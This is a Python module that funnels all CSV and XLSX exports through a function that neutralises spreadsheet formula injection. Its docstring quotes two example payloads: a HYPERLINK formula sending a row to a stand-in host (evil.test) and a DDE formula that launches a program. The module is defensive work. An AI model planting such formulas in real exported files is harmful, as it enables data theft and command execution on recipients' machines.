"""The one writer of every CSV and XLSX file Civitas hands out (exports, open data, GDPR).

A spreadsheet that opens a CSV file runs a cell starting with ``=``, ``+``, ``-`` or ``@``
as a formula: ``=HYPERLINK("https://evil.test/?"&A2, "Détails")`` sends the row to
someone else's server when clicked, ``=cmd|' /C calc'!A0`` starts a program through DDE.
A leading tab or carriage return is read the same way, and spreadsheet applications
skip leading spaces and line breaks before looking at the first character. Any text
cell that would start a formula is therefore written with a leading apostrophe, the
mark spreadsheets themselves use for "this is text" (OWASP's advice). Real numbers,
including negative ones, are left alone: they are data, not formulas.

Nothing else in ``civitas`` may call ``csv.writer``, ``csv.DictWriter`` or
``xlsxwriter`` directly: ``core/tests/test_spreadsheet_exports.py`` checks it, and
fetches every export of the project with such texts in every field.
"""

from __future__ import annotations

import csv
import re
import tempfile
from collections.abc import Iterable, Iterator, Mapping, Sequence
from decimal import Decimal
from typing import IO

FORMULA_TRIGGERS = ("=", "+", "-", "@")
# Read as the start of a formula even before a trigger, and not skipped by our check.
CONTROL_STARTS = ("\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value):
    """The value as it may go into a spreadsheet cell: formulas turned into plain text.

    ``None`` becomes an empty cell; numbers and booleans stay as they are.
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if is_formula(text):
        return "'" + text
    return text


def is_formula(text: str) -> bool:
    """Whether a spreadsheet could read this text as a formula (see the module's docstring)."""
    if text.startswith(CONTROL_STARTS):
        return True
    stripped = text.lstrip()
    return stripped.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(stripped)


class CsvWriter:
    """``csv.writer`` whose every cell goes through ``neutralise``."""

    def __init__(self, stream: IO[str]):
        self._writer = csv.writer(stream)

    def writerow(self, values: Iterable):
        return self._writer.writerow([neutralise(value) for value in values])


class _Echo:
    """A file-like object whose write returns the line instead of storing it."""

    def write(self, value: str) -> str:
        return value


def csv_lines(columns: Sequence[str], rows: Iterable[Mapping], *, bom: bool = True) -> Iterator[str]:
    """A CSV file line by line (for streaming): the header, then one line per dict.

    A key missing from a row gives an empty cell; keys not in ``columns`` are left out.
    """
    writer = CsvWriter(_Echo())
    if bom:
        yield "\ufeff"  # so spreadsheet software reads UTF-8 accents correctly
    yield writer.writerow(columns)
    for row in rows:
        yield writer.writerow(row.get(column, "") for column in columns)


def csv_text(columns: Sequence[str], rows: Iterable[Mapping], *, bom: bool = False) -> str:
    return "".join(csv_lines(columns, rows, bom=bom))


def xlsx_file(*, sheet_name: str, headers: Sequence[str], rows: Iterable[Sequence]) -> IO[bytes]:
    """An XLSX workbook of one sheet in a temporary file, rewound, for ``FileResponse``.

    XlsxWriter in constant-memory mode flushes each row to disk, so memory stays flat.
    Cells are texts, never formulas or links (``strings_to_formulas`` and
    ``strings_to_urls`` off) and are neutralised like CSV cells, so that the text stays
    harmless once copied, re-saved as CSV or edited in the cell.
    """
    import xlsxwriter

    spool = tempfile.TemporaryFile()  # noqa: SIM115 - the caller's FileResponse closes it
    workbook = xlsxwriter.Workbook(
        spool, {"constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False}
    )
    sheet = workbook.add_worksheet(sheet_name)
    sheet.write_row(0, 0, [neutralise(header) for header in headers])
    for index, row in enumerate(rows, start=1):
        sheet.write_row(index, 0, [neutralise(value) for value in row])
    workbook.close()
    spool.seek(0)
    return spool
